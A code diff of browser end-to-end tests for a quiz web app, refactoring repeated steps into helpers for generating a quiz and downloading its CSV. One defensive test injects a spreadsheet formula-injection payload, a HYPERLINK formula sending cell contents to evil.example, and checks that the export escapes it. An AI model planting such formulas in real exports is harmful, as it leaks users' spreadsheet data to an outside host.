@@ -233,6 +233,28 @@ def status_after(driver: WebDriver, element_id: str, previous: str) -> str:
     return wait(driver, lambda d: (t := by_id(d, element_id).text) != previous and "…" not in t and t, "no new status")
 
 
+def quiz_from_document(driver: WebDriver, path: str, n: int) -> list[WebElement]:
+    """Ask for n questions from one document, as a user would, and wait for them to be shown."""
+    by_id(driver, "tab-quiz").click()
+    driver.find_element(By.CSS_SELECTOR, "input[name=quiz-source][value=document]").click()
+    by_id(driver, "quiz-document").send_keys(path)
+    count = by_id(driver, "quiz-n")
+    count.clear()
+    count.send_keys(str(n), Keys.ENTER)
+    return wait(
+        driver, lambda d: d.find_elements(By.CSS_SELECTOR, ".quiz-question"), "no quiz questions", QUIZ_TIMEOUT_S
+    )
+
+
+def download_quiz_csv(driver: WebDriver, downloads: Path) -> bytes:
+    """Click the CSV button and return the bytes of the file the browser saved."""
+    for old in downloads.glob("*.csv"):
+        old.unlink()
+    click(driver, by_id(driver, "quiz-csv"))
+    files = wait(driver, lambda d: list(downloads.glob("quiz-*.csv")), "the CSV was not downloaded")
+    return files[0].read_bytes()
+
+
 # -- tests -------------------------------------------------------------------------------------------------
 
 
@@ -348,14 +370,7 @@ def test_ask_says_clearly_when_the_documents_hold_no_answer(page: WebDriver, ser
 def test_quiz_renders_choices_scores_answers_and_downloads_csv(
     page: WebDriver, server: Server, downloads: Path
 ) -> None:
-    by_id(page, "tab-quiz").click()
-    page.find_element(By.CSS_SELECTOR, "input[name=quiz-source][value=document]").click()
-    by_id(page, "quiz-document").send_keys(QUIZ_DOC)
-    count = by_id(page, "quiz-n")
-    count.clear()
-    count.send_keys("3", Keys.ENTER)
-    wait(page, lambda d: d.find_elements(By.CSS_SELECTOR, ".quiz-question"), "no quiz questions", QUIZ_TIMEOUT_S)
-    questions = page.find_elements(By.CSS_SELECTOR, ".quiz-question")
+    questions = quiz_from_document(page, QUIZ_DOC, 3)
     assert 1 <= len(questions) <= 3
     for question in questions:
         assert len(question.find_elements(By.CSS_SELECTOR, "input[type=radio]")) == 4, "the answer and 3 distractors"
@@ -381,11 +396,7 @@ def test_quiz_renders_choices_scores_answers_and_downloads_csv(
     click(page, by_id(page, "quiz-grade"))
     wait(page, lambda d: "100%" in by_id(d, "quiz-score").text, "the right answers did not score 100%")
 
-    for old in downloads.glob("*.csv"):
-        old.unlink()
-    click(page, by_id(page, "quiz-csv"))
-    files = wait(page, lambda d: list(downloads.glob("quiz-*.csv")), "the CSV was not downloaded")
-    data = files[0].read_bytes()
+    data = download_quiz_csv(page, downloads)
     assert data.startswith(b"\xef\xbb\xbf"), "a byte order mark, for Excel"
     text = data.decode("utf-8-sig")
     rows = read_table(text)  # the CLI's own reader: the page writes the same columns
@@ -419,20 +430,10 @@ def test_quiz_csv_keeps_formulas_from_running_in_a_spreadsheet(
     page: WebDriver, server: Server, downloads: Path
 ) -> None:
     page.execute_script(HOSTILE_QUIZ_JS)
-    by_id(page, "tab-quiz").click()
-    page.find_element(By.CSS_SELECTOR, "input[name=quiz-source][value=document]").click()
-    by_id(page, "quiz-document").send_keys(QUIZ_DOC)
-    count = by_id(page, "quiz-n")
-    count.clear()
-    count.send_keys("1", Keys.ENTER)
-    question = wait(page, lambda d: d.find_elements(By.CSS_SELECTOR, ".quiz-question"), "no quiz", QUIZ_TIMEOUT_S)[0]
+    question = quiz_from_document(page, QUIZ_DOC, 1)[0]
     assert question.find_element(By.TAG_NAME, "legend").text == '問1. =HYPERLINK("http://evil.example/?"&A1,"詳細")'
 
-    for old in downloads.glob("*.csv"):
-        old.unlink()
-    click(page, by_id(page, "quiz-csv"))
-    files = wait(page, lambda d: list(downloads.glob("quiz-*.csv")), "the CSV was not downloaded")
-    text = files[0].read_bytes().decode("utf-8-sig")
+    text = download_quiz_csv(page, downloads).decode("utf-8-sig")
     cells = next(csv.DictReader(io.StringIO(text)))
     assert cells["question"] == '\'=HYPERLINK("http://evil.example/?"&A1,"詳細")'
     assert (cells["title"], cells["answer"]) == ("'@SUM(A1:A9)", "'-1+2")
